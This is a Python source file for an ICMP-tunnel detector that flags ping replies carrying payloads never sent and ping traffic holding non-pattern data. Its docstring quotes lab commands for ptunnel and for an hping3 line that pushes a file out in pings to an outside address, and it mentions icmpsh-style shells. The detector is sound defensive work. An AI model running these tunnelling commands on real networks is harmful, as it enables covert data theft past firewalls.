"""ICMP tunnel: other traffic hidden in the payload of pings.

What it is:
    An echo request may carry any octets, and the reply must bring the same ones back (RFC 792). Programs on
    both sides put packets, commands or files there instead: a channel on the internet layer that needs no
    port and that many firewalls let out, because it looks like ping.

Exchange:
    inside host                         accomplice outside
       | -- echo request "GET / HTTP…" ---> |
       | <- echo reply   "GET / HTTP…" ---- |   the kernel answers as it must
       | <- echo reply   "HTTP/1.1 200 …" - |   the tunnel's own answer: not what was asked
       | -- echo request "…" -------------> |

How it is recognised:
    Between two hosts at least `altered` different payloads in echo replies that were in none of the
    requests, and these are at least `altered_share` of all replies' payloads: a reply has to bring back
    what was sent. The request with a reply's number must be in the capture, unless that is so of few only.
    One-sided data: at least `contents` different payloads, `octets` octets in all, that are not what ping
    programs fill in (a time, then the same or counting octets). The attacker is who asks; but if the data are
    in replies that answer no request, it is who sends them.

What looks the same:
- Ping fills its packets with a time and a pattern; monitoring often with one text. Both are told by their
  sameness.
- Some routers cut long replies short; the first octets still are the same.
- Tests with random fill (`fping -R`, `nping --data-length`) look like data; there are few of them.

How to stop it:
- Let echo requests out only from those who need them, and limit their size and rate.
- A proxying firewall that builds replies itself, or drops replies that do not match, ends such tunnels.
- Find the program on the inside host: it needs administrator's rights.

Limits:
    A tunnel that is as slow as ping and imitates its pattern is not seen. The first 48 octets are compared.
    Of a capture that shows one direction only, replies do not tell who filled them in: nobody is named.

In the lab:
    python -m lab.scenarios icmp-tunnel-ptunnel      (ptunnel -p PROXY -lp 8000 -da SERVER -dp 80)
    python -m lab.scenarios icmp-tunnel-shell        (commands in replies, as icmpsh does)
    python -m lab.scenarios icmp-tunnel-file         (hping3 --icmp -d 200 -E FILE 198.51.100.80)
    python -m lab.scenarios icmp-tunnel-held-replies (the same with --icmptype 0)

References:
- RFC 792, Echo or Echo Reply Message: the data received must be returned
- Daemon9, Project Loki, Phrack 49 (1996)
- MITRE ATT&CK T1095, Non-Application Layer Protocol
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence

import numpy as np
import pyarrow.compute as pc
from numpy.typing import NDArray

from netanatomy.detect.detector import PAYLOAD, Detector, Kept, Proof, Verdict, threshold
from netanatomy.detect.echo_payloads import (
    HEAD,
    NUMBERS,
    TIME,
    answers_of,
    digest_of,
    is_pattern,
    numbers_of,
)
from netanatomy.detect.echoes import echo_rows, echo_types
from netanatomy.detect.quantities import many, quantity, sentence
from netanatomy.detect.relations import EVERY_VALUE, Distinct, First, Row, Summary, Totals
from netanatomy.detect.tables import Tables, kept
from netanatomy.schema.findings import Severity
from netanatomy.schema.frozen import frozen
from netanatomy.schema.match import Selector, between, where
from netanatomy.schema.network import Network
from netanatomy.schema.rules import Rule
from netanatomy.tables.rows import Places, Rows
from netanatomy.tables.text import address_text

SECOND = 10**9  # ns
FRAMES = 8
"""Frames kept of each direction of a pair."""


@frozen
class Config:
    """Thresholds."""

    altered: int = threshold(5, "payloads", "payloads of replies that nobody sent", "RFC 792 allows none")
    altered_share: float = threshold(
        0.3, "", "their share of the replies' payloads", "a capture that lost requests shows some"
    )
    contents: int = threshold(
        20, "payloads", "different payloads that are no pattern", "a test by hand sends fewer"
    )
    octets: int = threshold(2_048, "octets", "octets in them", "less is hardly worth a tunnel")
    lost_share: float = threshold(
        0.75,
        "",
        "share of replies whose request the recorder may have lost; with more they are answers to nothing",
        "a recorder that loses three of four is no use",
    )
    short: int = threshold(
        24, "octets", "of a payload below which no pattern is told", "Linux's ping begins with 16 of the time"
    )
    even_share: float = threshold(
        0.85,
        "",
        "share of the steps from octet to octet that stay the same or count up, as ping programs fill it",
        "the alphabet of Windows turns round once in 23",
    )


def observe(tables: Tables, config: Config) -> Kept:
    """Echo messages by pair of hosts and direction; of those that ping did not fill, what they hold."""
    packets = tables.packets
    requests, replies = packets.once(echo_rows)
    every = np.concatenate([requests, replies])
    order = np.argsort(every, kind="stable")  # octets are found sooner in the order of the packets
    rows, reply = every[order], order >= len(requests)
    # Where the capture cut the header itself there is no payload to speak of.
    whole = packets.valid_at("icmp_sequence", rows)
    rows, reply = rows[whole], reply[whole]
    if not len(rows):
        return
    length, heads = packets.at("payload_length", rows), packets.payload_heads(rows, HEAD)
    strange, short = ~is_pattern(heads, length, config.even_share), length < config.short
    for back, pair in (
        (False, ("asker=ip_source", "answerer=ip_destination")),
        (True, ("asker=ip_destination", "answerer=ip_source")),
    ):
        mine = np.flatnonzero(reply == back)
        if not len(mine):
            continue
        if not back:
            yield "numbers", kept(packets, rows[mine], pair, number=numbers_of(packets, rows[mine]))
        odd = (strange & ~short)[mine]
        yield (
            "pairs",
            kept(
                packets,
                rows[mine],
                (*pair, "start=time", "end=time"),
                reply=np.int64(back),
                strange=odd.astype(np.int64),
                messages=1,
                octets=np.where(odd, length[mine], 0),
            ),
        )
        some = mine[(strange | short)[mine]]
        if len(some):
            yield from _contents(packets, rows[some], heads[some], short[some], pair, back)
            there = some[length[some] > 0]  # what is empty proves nothing
            digest, place = digest_of(heads[there]), ("time", "frame=frame_number", "depth")
            told = kept(packets, rows[there], (*pair, *place), reply=np.int64(back), digest=digest)
            yield "frames", told


def _contents(
    packets: Rows,
    rows: Places,
    heads: NDArray[np.uint8],
    short: NDArray[np.bool_],
    pair: tuple[str, str],
    back: bool,
) -> Kept:
    """What some messages of one direction hold; of short ones only whether it is the same."""
    digest, tail = digest_of(heads), digest_of(heads[:, TIME:])
    tail[short] = 0
    direction = np.int64(back)
    yield "contents", kept(packets, rows, pair, reply=direction, digest=digest, tail=tail)
    if back:
        yield "answers", kept(packets, rows, pair, digest=digest, number=numbers_of(packets, rows))


def judge(summary: Summary, config: Config, network: Network) -> Iterator[Verdict]:
    """One verdict for each pair of hosts that exchange data in pings."""
    if "contents" not in summary:
        return
    contents = summary.counted("contents")
    least = min(config.altered, config.contents)
    busy = {
        (row["asker"], row["answerer"])
        for row in contents.filter(pc.greater_equal(contents["total"], least)).to_pylist()
    }
    if not busy:
        return
    held, pairs = (
        summary.groups("contents", "asker", "answerer"),
        summary.groups("pairs", "asker", "answerer"),
    )
    frames = summary.groups("frames", "asker", "answerer")
    numbers, answers = (
        summary.groups("numbers", "asker", "answerer"),
        summary.groups("answers", "asker", "answerer"),
    )
    for pair in sorted(busy):
        if pair in pairs:
            told = answers_of(numbers.get(pair, ()), answers.get(pair, ()))
            back = any(row["reply"] for row in pairs.get((pair[1], pair[0]), ()))
            exact = all(
                summary.exact("contents", sum(row["reply"] == way for row in held[pair])) for way in (0, 1)
            )
            shown = frames.get(pair, ())
            yield from _verdict(pair, held[pair], pairs[pair], shown, told, back, config, exact)


def _verdict(
    pair: tuple[bytes, bytes],
    held: Sequence[Row],
    totals: Sequence[Row],
    frames: Sequence[Row],
    told: frozenset[int] | None,
    back: bool,
    config: Config,
    exact: bool,
) -> Iterator[Verdict]:
    """At most one; `back` says whether the asker answers the other's own pings: it would be seen to ask.

    `exact` says whether `held` is all that they said.
    """
    asked = {row["digest"] for row in held if not row["reply"]}
    answered = {row["digest"] for row in held if row["reply"]}
    data_asked = any(row["tail"] for row in held if not row["reply"])
    altered = answered - asked
    if told is not None and len(altered - told) <= config.lost_share * len(answered):
        altered &= told  # the requests of the others may be what the recorder lost
    requests = sum(row["messages"] for row in totals if not row["reply"])
    replies = sum(row["messages"] for row in totals if row["reply"])
    octets = sum(row["octets"] for row in totals)
    tails = len({row["tail"] for row in held if row["tail"]})
    unasked = not data_asked and told is not None and not answered & told
    both = (
        requests > 0
        and len(altered) >= config.altered
        and len(altered) >= config.altered_share * len(answered)
    )
    if not both and (tails < config.contents or octets < config.octets):
        return
    client, server = address_text(pair[0]), address_text(pair[1])
    start, end = min(row["start"] for row in totals), max(row["end"] for row in totals)
    request_type, reply_type = echo_types(client)
    there = where(ip_source=client, ip_destination=server, icmp_type=request_type)
    answers = where(ip_source=server, ip_destination=client, icmp_type=reply_type)
    sender, receiver = (server, client) if unasked else (client, server)
    returned, different = quantity(len(altered), exact), quantity(tails, exact)
    if both:
        why = (
            f"{returned.of('different payload')} came back from {server} that {client} never sent, though an "
            "echo reply must bring back what the request held"
        )
        shown = [row for row in frames if row["reply"] and row["digest"] in altered]
        shown += [row for row in frames if not row["reply"]]
    else:
        where_in = "echo replies, for which there is no request," if unasked else "pings"
        why = (
            f"{different.of('different payload')} in {where_in} are not the pattern that ping programs fill "
            f"in, {octets} octets in all: they carry data"
        )
        shown = list(frames)
    yield Verdict(
        subject=f"{client} {server}",
        title=f"ICMP tunnel from {sender} to {receiver}",
        severity=Severity.HIGH if both else Severity.MEDIUM,
        confidence=0.9 if both else 0.6,
        attackers=() if unasked and not (requests or back) else (sender,),
        victims=(),
        others={"far end": (receiver,)},
        start=start,
        end=end,
        counts={
            "requests": requests,
            "replies": replies,
            "octets": octets,
            **different.counted("different_payloads"),
            **(returned.counted("altered_payloads") if both else {"altered_payloads": 0}),
        },
        reason=(
            f"{client} and {server} exchanged {many(requests, 'echo request')} and "
            f"{many(replies, 'reply', 'replies')} in {(end - start) / SECOND:.1f} s. {sentence(why)}."
        ),
        proofs=tuple(
            Proof(
                row["frame"],
                row["depth"],
                PAYLOAD,
                "reply with octets that were not sent" if row["reply"] and both else "data in a ping",
            )
            for row in (*shown[:5], *shown[FRAMES : FRAMES + 5])
        ),
        frames=(0 if unasked else requests) + (replies if both or unasked else 0),
        scope=(
            *(() if unasked else (Selector((*there, *between(start, end))),)),
            *((Selector((*answers, *between(start, end))),) if both or unasked else ()),
        ),
        rule=Rule(matches=answers if unasked else there),
        advice=("let echo requests leave the network only from hosts that need them",),
    )


DETECTOR = Detector(
    name="icmp-tunnel",
    title="ICMP tunnel",
    layer="internet",
    techniques=("T1095",),
    config=Config(),
    relations={
        "pairs": Totals(
            ("asker", "answerer", "reply"), ("strange", "messages", "octets"), ("start",), ("end",)
        ),
        "contents": Distinct(("asker", "answerer", "reply"), ("digest", "tail"), 512, EVERY_VALUE),
        "numbers": Distinct(("asker", "answerer"), ("number",), NUMBERS),
        "answers": Distinct(("asker", "answerer"), ("digest", "number"), NUMBERS),
        "frames": First(("asker", "answerer", "reply"), ("digest",), FRAMES),
    },
    observe=observe,
    judge=judge,
    packets=("icmp_type", "icmp_identifier", "icmp_sequence", "ip_protocol", "ip_source", "ip_destination"),
)
